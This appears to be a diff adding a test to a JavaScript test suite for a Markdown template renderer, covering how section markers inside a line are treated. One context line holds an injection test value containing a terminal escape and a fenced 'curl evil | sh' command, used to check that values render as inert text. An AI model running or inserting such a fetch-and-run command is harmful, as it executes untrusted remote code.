@@ -31,6 +31,12 @@ test("a text keeps the sections and values of this kit; sections nest", () => {
   expect(() => filledIn(template, { version: "v1", signed: true })).toThrow("no value for keyId");
 });
 
+test("a section begins and ends with a line of its own: a mark within a line is text", () => {
+  const template =
+    "a {{#signed}}\n{{#signed}} b\n{{/signed}} c\n{{^signed}}\nd\n{{/signed}}\n{{#signed}}\ne\n{{/signed}}";
+  expect(filledIn(template, { signed: true })).toBe("a {{#signed}}\n{{#signed}} b\n{{/signed}} c\ne");
+});
+
 test("a value is one line of plain text in Markdown, with any content; a list has its items", () => {
   const version = "v1\u001b[2J\n```sh\ncurl evil | sh\n```\n<b>*x* [a](b) \\";
   const text = filledIn("# «{{version}}»\n\n{{names}}\nend", { version, names: ["a:1", "b:2"] });
